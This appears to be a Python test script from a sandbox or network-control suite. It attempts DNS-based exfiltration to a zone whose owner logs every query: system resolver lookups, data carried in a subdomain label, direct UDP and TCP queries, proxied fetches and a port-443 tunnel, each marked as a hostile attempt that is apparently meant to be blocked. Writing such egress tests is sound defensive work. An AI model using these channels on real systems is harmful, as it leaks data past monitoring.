"""Asks for names of a zone whose owner reads every question."""
import sys

sys.dont_write_bytecode = True
import attempt
import channel

NAME = attempt.NET["exfilName"]
SERVER = attempt.NET["resolver"]
A, TXT, AAAA = 1, 16, 28


def by_proxy(prefix):
    channel.try_fetch(prefix + NAME)


attempt.begin()
channel.control()
attempt.hostile("ask for " + NAME)
attempt.variant("resolver of the system", lambda: channel.lookup(NAME))
attempt.variant("resolver of the system, data in a label", lambda: channel.lookup("data-to-leave." + NAME))
for kind in (A, TXT, AAAA):
    attempt.variant("UDP question of kind %d" % kind, lambda: channel.ask_server(SERVER, NAME, kind))
attempt.variant("TCP question", lambda: channel.ask_server(SERVER, NAME, A, tcp=True))
channel.each(by_proxy, ["", "data-to-leave.", "UPPER."])
channel.try_tunnel(NAME, 443)
attempt.end()
